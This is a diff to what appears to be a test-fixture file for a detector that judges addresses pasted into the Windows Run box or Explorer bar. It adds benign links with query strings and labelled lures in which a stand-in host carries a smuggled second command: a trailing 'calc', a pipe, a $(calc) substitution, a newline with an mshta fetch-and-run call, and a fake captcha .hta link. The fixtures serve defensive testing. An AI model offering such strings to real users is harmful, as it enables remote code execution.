@@ -35,6 +35,24 @@ SPACED_ADDRESS = [
 # a program or script on a file server of the user's own network: a private address (RFC 1918)
 # or a name only the local network resolves (fs01.corp, nas.local), from an intranet page,
 # typed, or from a colleague's chat
+# a mail's tracking link or a video's address with its query's & and ; pasted into the Run box
+# or Explorer's bar to open it: handed whole to the browser
+QUERY_ADDRESS = [
+    *each(
+        "https://outlook.office.com/mail/inbox",
+        "run_dialog",
+        "https://www.youtube.com/watch?v=Xk2Lp9mN4vR&list=PL8f3a1c2d4e5f&index=3&t=742s",
+        "https://eur02.safelinks.protection.outlook.com/?url=https%3A%2F%2Facme.sharepoint.com%2Fsites%2FHR&data=05%7C02%7Cjdoe%40acme.example%7C8f3a1c&reserved=0",
+        "https://www.google.com/url?sa=t&rct=j&q=&esrc=s&source=web&url=https%3A%2F%2Fdocs.python.org%2F3%2F&usg=AOvVaw3",
+    ),
+    *each(
+        None,
+        "explorer_bar",
+        "https://acme.sharepoint.com/sites/HR/_layouts/15/Doc.aspx?sourcedoc=%7B8f3a1c2d%7D&file=Leave.docx&action=default&mobileredirect=true",
+        "https://www.booking.com/hotel/pt/almirante.html?aid=304142&checkin=2025-03-14&checkout=2025-03-18;lang=en-gb",
+    ),
+]
+
 OWN_SHARES = [
     *each(
         INTRANET,
@@ -152,8 +170,28 @@ SHARE_LURES = [
     ),
 ]
 
+QUERY_LURES = [
+    # a word, a pipe, a substitution or a second line after the address are still a command
+    ("run_dialog", LURE_PAGE, "malicious", "https://docs-verify.example/a?b=1&c=2 calc"),
+    ("run_dialog", LURE_PAGE, "malicious", "https://docs-verify.example/a?b=1|calc"),
+    ("run_dialog", LURE_PAGE, "malicious", "https://docs-verify.example/a?b=$(calc)"),
+    (
+        "run_dialog",
+        None,
+        "flagged",
+        "https://docs-verify.example/a?b=1\nmshta https://docs-verify.example/x",
+    ),
+    (
+        "run_dialog",
+        LURE_PAGE,
+        "malicious",
+        "https://docs-verify.example/captcha/check.hta?id=4821&r=2",
+    ),
+]
+
 LOOK_ALIKES = [
     ("spaced-address-look-alike", "windows", SPACED_LURES),
+    ("query-address-look-alike", "windows", QUERY_LURES),
     ("own-share-look-alike", "windows", SHARE_LURES),
     ("own-index-look-alike", "any", INDEX_LURES),
 ]
